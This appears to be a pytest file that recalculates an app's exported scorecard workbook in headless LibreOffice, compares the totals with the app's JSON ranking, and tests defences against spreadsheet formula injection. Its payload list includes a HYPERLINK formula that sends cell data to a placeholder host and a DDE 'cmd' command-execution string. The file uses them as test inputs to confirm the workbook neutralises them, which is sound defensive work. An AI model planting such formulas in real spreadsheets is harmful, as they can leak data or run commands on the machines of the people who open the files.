"""The scorecard's live formulas, recalculated by a real spreadsheet, give the app's numbers.

LibreOffice (libreoffice-calc-nogui, installed by .ci/run) opens the exported workbook with
"recalculate on load" forced in a throwaway profile (env-probe.md §5) and writes every sheet to
CSV; the totals and global weights there are compared with `aligner rank --json`.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from aligner.cli import main
from aligner.services import edits
from aligner.services.edits import SetScore
from aligner.services.project import Project

RECALC_ON_LOAD = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
 xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""
#: Every sheet to its own CSV, UTF-8, full precision (the 12th token -1 means all sheets).
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1"

PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\uff1d1+1",
)
#: The project trims surrounding whitespace, so the tab-led payload arrives as "=1+1".
STORED = {payload.strip() for payload in PAYLOADS}
#: Shapes of the formulas the exporter itself writes; anything else would be user text.
OWN_FORMULAS = ("=IF(", "=COUNTIF(", "=INDEX(", "=Weights!", "=Summary!", '=""')


def recalculate(workbook: Path, folder: Path) -> dict[str, list[list[str]]]:
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: apt-get install libreoffice-calc-nogui (.ci/run)"
    profile = folder / "profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ON_LOAD)
    out = folder / "csv"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            CSV_FILTER,
            "--outdir",
            str(out),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    sheets = {}
    for path in out.glob("*.csv"):
        name = path.stem.removeprefix(workbook.stem + "-")
        with path.open(encoding="utf-8") as stream:
            sheets[name] = list(csv.reader(stream))
    return sheets


def number(text: str) -> float:
    text = text.strip()
    if text.endswith("%"):
        return float(text[:-1]) / 100
    return float(text)


def hostile_sample(sample_copy: Path) -> Path:
    """The sample district with formula-like text in every kind of user field."""
    project = Project.open(sample_copy)
    try:
        tools, outcomes = project.tools(), project.outcomes()
        challenges, members = project.challenges(), project.members()
        for tool, payload in zip(tools, PAYLOADS, strict=False):
            project.execute(edits.update("tool", tool.id, name=payload, vendor=payload))
        project.execute(edits.update("outcome", outcomes[0].id, name=PAYLOADS[2]))
        project.execute(edits.update("challenge", challenges[0].id, title=PAYLOADS[3]))
        project.execute(edits.update("member", members[0].id, name=PAYLOADS[4]))
        project.execute(
            SetScore(members[0].id, tools[0].id, outcomes[0].id, 3, rationale=PAYLOADS[0])
        )
        project.save()
    finally:
        project.close()
    return sample_copy


def test_recalculated_totals_and_weights_equal_the_apps(
    sample_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project_file = hostile_sample(sample_copy)
    assert main(["rank", str(project_file), "--json"]) == 0
    expected = json.loads(capsys.readouterr().out)
    target = tmp_path / "scorecard.xlsx"
    # Charts are checked where the desktop app exports; here only the numbers matter.
    assert main(["export", str(project_file), "--xlsx", str(target), "--no-charts"]) == 0

    sheets = recalculate(target, tmp_path)
    summary = sheets["Summary"]
    head = next(i for i, row in enumerate(summary) if row[:3] == ["Tool", "Rank", "Total (0-100)"])
    totals = {}
    for row in summary[head + 1 :]:
        if not row or not row[0]:
            break
        totals[row[0]] = row[2]
    blocked_head = next(
        i
        for i, row in enumerate(summary)
        if row[:4] == ["Tool", "", "Total (0-100)", "Why it is blocked"]
    )
    for row in summary[blocked_head + 1 :]:
        if not row or not row[0]:
            break
        totals[row[0]] = row[2]
    mismatches = []
    for tool in expected["tools"]:
        got = totals[tool["name"]]
        if tool["score"] is None:
            if got != "":
                mismatches.append((tool["name"], None, got))
        elif abs(number(got) - tool["score"]) > 0.01:
            mismatches.append((tool["name"], tool["score"], got))
    assert len(totals) == len(expected["tools"])
    assert any(t["status"] == "blocked" for t in expected["tools"])  # the gate is exercised

    weights = sheets["Weights"]
    head = next(
        i for i, row in enumerate(weights) if row[:3] == ["Challenge id", "Challenge", "Outcome"]
    )
    exported = [number(row[5]) for row in weights[head + 1 :] if row and row[0]]
    assert len(exported) == len(expected["weights"])
    for line, got in zip(expected["weights"], exported, strict=True):
        if abs(got - line["weight"]) > 0.01:
            mismatches.append((line["outcome"], line["weight"], got))
    assert mismatches == []

    _assert_user_text_is_never_a_formula(target)


def _assert_user_text_is_never_a_formula(target: Path) -> None:
    book = openpyxl.load_workbook(target)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert str(cell.value).startswith(OWN_FORMULAS), (sheet.title, cell.coordinate)
                elif cell.value in STORED:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen.add(cell.value)
    assert seen == STORED
    with zipfile.ZipFile(target) as archive:
        xml = "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        )
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas
    assert not [f for f in formulas if "HYPERLINK" in f or "cmd|" in f or "1+1" in f]
    assert book.properties.creator == "Aligner"
    assert book.properties.lastModifiedBy == "Aligner"
